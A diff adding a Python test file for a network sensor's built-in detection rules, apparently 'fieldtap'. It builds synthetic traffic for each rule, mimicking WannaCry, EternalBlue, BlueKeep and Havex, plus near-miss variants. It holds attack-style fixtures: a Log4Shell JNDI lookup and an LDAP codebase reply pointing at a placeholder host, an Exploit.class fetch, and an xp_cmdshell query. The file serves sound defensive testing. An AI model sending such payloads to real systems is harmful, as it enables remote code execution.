@@ -1,0 +1,321 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: BSD-3-Clause
+"""The rules that fieldtap brings: each fires on what it is for, and not on what is nearly that.
+
+usage: test_builtin_rules.py PATH_OF_FIELDTAP PATH_OF_FIELDTAP_PLANT [unittest options]
+"""
+
+import json
+import pathlib
+import struct
+
+import sensor
+import traffic
+from sensor import Case, of_type, pcap, run
+from traffic import C, S, dns, http, repeat, tcp, tls, udp, wide
+
+FOLDER = pathlib.Path(__file__).resolve().parents[2] / "lib/rules/builtin"
+KILL = "iuqerfsodp9ifjaposdfjhgosurijfaewrwergwe"
+
+
+# ---- pieces of traffic ----
+
+def smb1(command, words=b"", body=b"", multiplex=64):
+    """A request of SMB 1: its words as 16-bit numbers, and what follows."""
+    header = (b"\xffSMB" + bytes([command]) + bytes(4) + b"\x18" + b"\7\xc0" + bytes(12)
+              + struct.pack("<HHHH", 0x800, 0xFEFF, 0x800, multiplex))
+    message = header + bytes([len(words) // 2]) + words + struct.pack("<H", len(body)) + body
+    return struct.pack(">I", len(message)) + message
+
+
+def trans2(setup):
+    """TRANS2 with one setup word."""
+    return smb1(0x32, struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0, 0, 12, 66, 0, 78,
+                                  1, 0, setup), bytes(12))
+
+
+def nt_transact(function):
+    return smb1(0xA0, struct.pack("<BHIIIIIIIIBH", 1, 0, 4, 4, 0, 0, 4, 76, 0, 0, 0, function),
+                bytes(4))
+
+
+def peek_pipe(function, handle):
+    """TRANS on a named pipe."""
+    return smb1(0x25, struct.pack("<HHHHBBHIHHHHHBBHH", 0, 0, 0xFFFF, 0xFFFF, 0, 0, 0, 0, 0, 0, 74,
+                                  0, 74, 2, 0, function, handle), b"\\PIPE\\\0")
+
+
+def smb2(body):
+    return struct.pack(">I", len(body) + 64) + b"\xfeSMB\x40\0" + bytes(58) + body
+
+
+def rpc_bind(interface):
+    item = struct.pack("<HBB", 0, 1, 0) + interface + struct.pack("<I", 1) + bytes(20)
+    body = struct.pack("<HHIB3x", 4280, 4280, 0, 1) + item
+    return struct.pack("<BBBBIHHI", 5, 0, 11, 3, 0x10, 16 + len(body), 0, 1) + body
+
+
+def on_smb(data, port=445):
+    return tcp(port, (C, data))
+
+
+def bluekeep(channel):
+    gcc = b"\x7f\x65" + bytes(40) + b"Duca" + bytes(60) + b"\3\xc0" + struct.pack("<HI", 20, 1)
+    return tcp(3389, (C, traffic.tpkt(b"\2\xf0\x80" + gcc + channel.ljust(8, b"\0") + bytes(4))))
+
+
+def tds(statement):
+    body = wide(statement)
+    return tcp(1433, (C, struct.pack(">BBHHBB", 1, 1, 8 + len(body), 0, 1, 0) + body))
+
+
+def ntlm_challenge(challenge):
+    return tcp(445, (C, smb2(b"ask")), (S, smb2(
+        b"NTLMSSP\0" + struct.pack("<IHHII", 2, 12, 12, 56, 0xE28A8215) + challenge + bytes(8))))
+
+
+def ftp_login(number, reply):
+    return tcp(21, (S, b"220 ready\r\n"), (C, b"USER a\r\n"), (S, b"331 password\r\n"),
+               (C, b"PASS b\r\n"), (S, reply), source=40000 + number)
+
+
+def telnet_login(number, user, reply):
+    return tcp(23, (S, b"login: "), (C, user + b"\r\n"), (S, b"\r\nPassword: "), (C, b"x\r\n"),
+               (S, b"\r\n" + reply + b"\r\n"), source=40000 + number)
+
+
+def refused(times):
+    turns = ((C, traffic.http_request()), (S, traffic.http_response("401 Unauthorized")))
+    return tcp(80, *(turns * times))
+
+
+def s7_passwords(times):
+    ask = traffic.s7_userdata(5, 1, b"\x55" * 8)
+    return traffic.s7_talk(*[(C, ask)] * times)
+
+
+def syslog(text, times=1):
+    return udp(514, *[(C, f"<34>Oct 11 22:14:{15 + i % 40} plc sshd[{i}]: {text}".encode())
+                      for i in range(times)])
+
+
+def basic(user):
+    import base64  # pylint: disable=import-outside-toplevel
+    token = base64.b64encode(f"{user}:x".encode()).decode()
+    return http(more=f"Authorization: Basic {token}\r\n")
+
+
+def discovers(times):
+    def one(i):
+        head = struct.pack(">BBBBIHH", 1, 1, 6, 0, 1000 + i, 0, 0x8000) + bytes(16)
+        mac = b"\2\0\0\0" + struct.pack(">H", i)
+        body = head + mac + bytes(10 + 192) + b"\x63\x82\x53\x63" + b"\x35\1\1\xff"
+        return lambda client, server: [traffic.datagram(client, (255, 255, 255, 255), (68, 67),
+                                                        body)]
+    return repeat(times, one)
+
+
+def nbstat(times):
+    name = b"\x20CK" + b"A" * 30 + b"\0"
+    return udp(137, *[(C, struct.pack(">6H", i + 1, 0, 1, 0, 0, 0) + name
+                       + struct.pack(">HH", 33, 1)) for i in range(times)])
+
+
+def device_ids(times):
+    return repeat(times, lambda i: traffic.modbus(b"\x2b\x0e\1\0", transaction=i + 1,
+                                                  source=40000 + i))
+
+
+def monlist(request):
+    return udp(123, (C, bytes((0x17, 0, 3, request)) + bytes(44)))
+
+
+def ssh(software):
+    return tcp(22, (S, b"SSH-2.0-OpenSSH_9.2\r\n"), (C, b"SSH-2.0-" + software + b"\r\n"))
+
+
+def null_queries(times):
+    return udp(53, *[(C, traffic.dns_query(f"z{i:04x}aa.t.example", 10, i + 1))
+                     for i in range(times)])
+
+
+def server(serial, **subject):
+    return traffic.tls_server(traffic.certificate(serial, **subject))
+
+
+def text_in_log(text):
+    return syslog("user agent " + text)
+
+
+NMAP_RPC = bytes.fromhex("72fe1d130000000000000002000186a00001977c") + bytes(20)
+HAVEX = "/a.php?id=28574529632289617890098DF80D-20&v1=038&v2=170393861&q=5265882854508EFCF958F979E4"
+STUXNET_RPC = bytes.fromhex("e104020000000000c000000000000046")
+SRVSVC = bytes.fromhex("c84f324b7016d30112785a47bf6ee188")
+MIMIKATZ = bytes.fromhex("e911fc1758c28d4b8d072f4125156244")
+CONFICKER = bytes.fromhex("e8ffffffffc25f8d4f108031c4416681394d5375f5")
+TITLE = {"C": "US", "O": "Example", "CN": "Example"}
+
+# id: (what fires it, what nearly does)
+ROWS = {
+    # malware.json
+    9150001: (dns(f"www.{KILL}a.com"), dns(f"www.{KILL}.com")),
+    9150002: (repeat(2, lambda i: (http(host=f"www.{KILL}a.com"), tls(f"{KILL}b.com"))[i]),
+              tls("iuqerf.com")),
+    9150003: (on_smb(smb1(0x75, b"\xff\0", wide("\\\\192.168.56.20\\IPC$"))),
+              on_smb(smb1(0x75, b"\xff\0", wide("\\\\192.168.56.21\\IPC$")))),
+    9150004: (on_smb(trans2(14)), on_smb(trans2(5))),
+    9150005: (tcp(3389, (C, bytes.fromhex("0300000e02f0803c443728190200"))),
+              tcp(3389, (C, bytes.fromhex("0300000e02f0803c443728190300")))),
+    9150006: (on_smb(nt_transact(5)), on_smb(nt_transact(6))),
+    9150007: (on_smb(smb2(CONFICKER), 139), on_smb(smb2(CONFICKER[:-1]), 139)),
+    9150008: (http(url="/search?q=12", host="203.0.113.7"), http(url="/search?q=12")),
+    9150009: (repeat(2, lambda i: (dns("www.mypremierfutbol.com"),
+                                   http(host="www.todaysfutbol.com"))[i]),
+              dns("www.todaysfutbol.org")),
+    9150010: (http(url="/index.php?data=66a96e28de8daedbe0102030"),
+              http(url="/index.php?data=66a96e29de8daedbe0102030")),
+    9150011: (on_smb(rpc_bind(STUXNET_RPC), 139), on_smb(rpc_bind(SRVSVC), 139)),
+    9150012: (udp(1434, (C, b"\4" + b"\1" * 375)), udp(1434, (C, b"\4" + b"\1" * 16))),
+    9150013: (http(url=HAVEX), http(url="/a.php?id=28574529&v1=038&v2=170393861&q=52658828")),
+    9150014: (tcp(80, (C, traffic.http_request()),
+                  (S, traffic.http_response(body=b"<html>no data<!--havexQUJD--></html>"))),
+              tcp(80, (C, traffic.http_request()),
+                  (S, traffic.http_response(body=b"<html>no data<!-- havex --></html>")))),
+    9150015: (http(method="POST", url="/g.php", body=b"id=xPLANT_A1B2C3D4&build_id=B1"),
+              http(method="POST", url="/g.php", body=b"id=PLANT_A1B2C3D4&build_id=B1")),
+    9150016: (udp(50000, (C, bytes.fromhex("11490000000000000000000000000000289e"))),
+              udp(50000, (C, bytes.fromhex("11490000000000000000000000000000289f")))),
+    9150017: (http(method="POST", url="/cgi-bin/cpu.fcgi", body=b"a=1"),
+              http(url="/cgi-bin/cpu.fcgi")),
+    9150018: (traffic.broadcast(1502, bytes.fromhex("060000000088")),
+              udp(1502, (C, bytes.fromhex("060000000088")))),
+    9150019: (tcp(3333, (C, b'{"id":1,"method":"mining.subscribe","params":[]}\n')),
+              tcp(3333, (C, b'{"id":1,"method":"sensor.subscribe","params":[]}\n'))),
+    9150020: (repeat(2, lambda i: (dns("pool.supportxmr.com"), tls("xmr-eu1.nanopool.org"))[i]),
+              dns("nanopool.org.example")),
+    9150021: (on_smb(smb2(wide("windows\\mssecsvc.exe"))), on_smb(smb2(wide("mssecsvc.log")))),
+    9150022: (on_smb(smb2(wide("infpub.dat"))), on_smb(smb2(wide("perfc009.dat")))),
+    # attacks.json
+    9150040: (on_smb(peek_pipe(0x23, 0)), on_smb(peek_pipe(0x23, 0x4000))),
+    9150041: (on_smb(b"\0\0\0\x20\xfcSMB" + b"\xff" * 4 + bytes(24)),
+              on_smb(b"\0\0\0\x20\xfcSMB\0\x10\0\0" + bytes(24))),
+    9150042: (bluekeep(b"MS_T120"), bluekeep(b"rdpsnd")),
+    9150043: (tcp(49667, (C, b"\5\0\0\3" + bytes(40) + wide("PLANT$\0") + bytes(8)
+                          + b"\xff\xff\x2f\x21")),
+              tcp(49667, (C, b"\5\0\0\3" + bytes(40) + wide("PLANT$\0") + b"8bytekey"
+                          + b"\xff\xff\x2f\x21"))),
+    9150044: (text_in_log("${jndi:ldap://192.0.2.1/a}"), text_in_log("${jndi-like}")),
+    9150045: (tcp(1389, (C, b"\x30\x0c"), (S, b"\x30\x40\2\1\2javaCodeBase http://192.0.2.1/")),
+              tcp(1389, (C, b"\x30\x0c"), (S, b"\x30\x40\2\1\2description: java beans"))),
+    9150046: (http(url="/Exploit.class", agent="Java/1.8.0_102"),
+              http(url="/Exploit.class")),
+    9150047: (tds("EXEC master..xp_CmdShell 'dir'"), tds("SELECT * FROM xp_shell")),
+    9150048: (tds("User ID=WinCCConnect"), tds("User ID=WinCC")),
+    9150049: (ntlm_challenge(bytes.fromhex("1122334455667788")),
+              ntlm_challenge(bytes.fromhex("1122334455667789"))),
+    9150050: (on_smb(rpc_bind(MIMIKATZ), 135), on_smb(smb2(MIMIKATZ))),
+    9150051: (on_smb(smb2(wide("PSEXESVC.exe"))), on_smb(smb2(wide("PSEXE.txt")))),
+    9150052: (on_smb(smb2(wide("RemCom_communicaton"))), on_smb(smb2(wide("RemCommand")))),
+    9150053: (on_smb(smb2(wide("%COMSPEC% /Q /c echo cd"))), on_smb(smb2(wide("%COMSPEC% /c echo")))),
+    9150056: (repeat(10, lambda i: ftp_login(i, b"530 no\r\n")),
+              repeat(9, lambda i: ftp_login(i, b"530 no\r\n"))),
+    9150057: (repeat(5, lambda i: telnet_login(i, b"root", b"Login incorrect")),
+              repeat(4, lambda i: telnet_login(i, b"root", b"Login incorrect"))),
+    9150058: (refused(30), refused(29)),
+    9150059: (s7_passwords(5), s7_passwords(4)),
+    9150060: (syslog("Failed password for root", 10), syslog("Failed password for root", 9)),
+    9150061: (repeat(2, lambda i: (telnet_login(0, b"sysdiag", b"$"), basic("fdrusers"))[i]),
+              basic("sysdiags")),
+    9150062: (syslog("The audit log was cleared"), syslog("The audit log was rotated")),
+    9150063: (discovers(100), discovers(99)),
+    # scans.json
+    9150080: (http(url="/nice%20ports%2C/Tri%6Eity.txt%2ebak"), http(url="/nice%20ports/a.txt")),
+    9150081: (http(agent="Mozilla/5.0 (compatible; CensysInspect/1.1)"), http(agent="census")),
+    9150082: (dns("version.bind", 16, 3), dns("version.bind", 16, 1)),
+    9150083: (tcp(3389, (C, b"\3\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n")),
+              tcp(3389, (C, b"\3\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=anna\r\n"))),
+    9150084: (udp(5060, (C, b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm\r\n\r\n")),
+              udp(5060, (C, b"OPTIONS sip:pm SIP/2.0\r\nVia: SIP/2.0/UDP nm\r\n\r\n"))),
+    9150085: (repeat(2, lambda i: (udp(111, (C, NMAP_RPC)),
+                                   tcp(111, (C, b"\x80\0\0\x28" + NMAP_RPC)))[i]),
+              udp(111, (C, b"\x72\xfe\x1d\x14" + NMAP_RPC[4:]))),
+    9150086: (ssh(b"Nmap-SSH2-Hostkey"), ssh(b"OpenSSH_9.6 Nmap")),
+    9150087: (nbstat(50), nbstat(49)),
+    9150088: (device_ids(30), device_ids(29)),
+    9150089: (monlist(42), monlist(4)),
+    # tunnels.json
+    9150100: (dns("dnscat.0123456789abcdef.example"), dns("dnscat.documentation.example")),
+    9150101: (dns("AAAAAA.=auth.t.example", 16), dns("AAAAAA.=auth.t.example", 1)),
+    9150102: (null_queries(5), null_queries(4)),
+    9150103: (dns("aaa.stage.14919005.t.example"), dns("aaa.stages.14919005.t.example")),
+    9150104: (server(b"\x08\xbb\0\xee", **TITLE), server(b"\x08\xbb\0\xef", **TITLE)),
+    9150105: (server(b"\1", CN="AsyncRAT Server"), server(b"\1", CN="Async Server")),
+    9150106: (dns("abcdefghijklmnop.onion"), dns("onion.example")),
+    9150107: (tls("dns.google"), tls("dns.google.example")),
+    9150108: (repeat(3, lambda i: (dns("router1.teamviewer.com"), tls("relay.anydesk.com"),
+                                   http(host="x.logmein.com"))[i]),
+              dns("teamviewer.com.example")),
+    9150109: (repeat(2, lambda i: (dns("tunnel.ngrok.com"), tls("a.trycloudflare.com"))[i]),
+              tls("cloudflare.com")),
+}
+
+
+def rules():
+    return [rule for path in sorted(FOLDER.glob("*.json"))
+            for rule in json.loads(path.read_text())["rules"]]
+
+
+def packets(which):
+    """The traffic of all rows, each between two hosts of its own, and the row of each packet."""
+    frames, row_of = [], []
+    for i, (rule, row) in enumerate(ROWS.items()):
+        for frame in row[which]((10, 1, i, 1), (10, 1, i, 2)):
+            frames.append((len(frames) * 0.0005, frame))
+            row_of.append(rule)
+    return frames, row_of
+
+
+class BuiltIn(Case):
+    """All rows in one capture, those that fire and those that nearly do in another."""
+
+    def test_each_has_its_row(self):
+        ids = [rule["id"] for rule in rules()]
+        self.assertEqual(sorted(set(ids)), sorted(ids))
+        self.assertEqual(sorted(ids), sorted(ROWS))
+        self.assertTrue(all(9150000 < i < 9200000 for i in ids))
+
+    def test_each_says_everything(self):
+        for rule in rules():
+            with self.subTest(rule["id"]):
+                for key in ("title", "message", "severity", "engine", "category", "mitre", "when",
+                            "remediation", "reference"):
+                    self.assertTrue(rule.get(key), key)
+
+    def test_they_are_sound(self):
+        r = run("--check-rules", FOLDER)
+        self.assertEqual((r.code, r.err), (0, ""), "no errors, and no remarks on what they cost")
+        self.assertTrue(r.out.endswith(f"rules: {len(ROWS)} accepted, 0 refused\n"), r.out)
+
+    def alerts(self, which):
+        """Ids that fired, by the row between whose hosts."""
+        capture = self.write("a.pcap", pcap(packets(which)[0]))
+        self.assertOk(run("-q", "-r", capture, "-l", self.out, "--rules", FOLDER))
+        fired = {}
+        for alert in of_type(self.events(), "alert"):
+            number = alert["alert"]["signature_id"]
+            if 9150000 < number < 9200000:
+                host = next(ip for ip in (alert["src_ip"], alert["dest_ip"])
+                            if ip.startswith("10.1."))
+                row = list(ROWS)[int(host.split(".")[2])]
+                fired.setdefault(row, set()).add(number)
+        return fired
+
+    def test_they_fire(self):
+        self.assertEqual(self.alerts(0), {rule: {rule} for rule in ROWS})
+
+    def test_near_misses(self):
+        self.assertEqual(self.alerts(1), {})
+
+
+if __name__ == "__main__":
+    sensor.main()
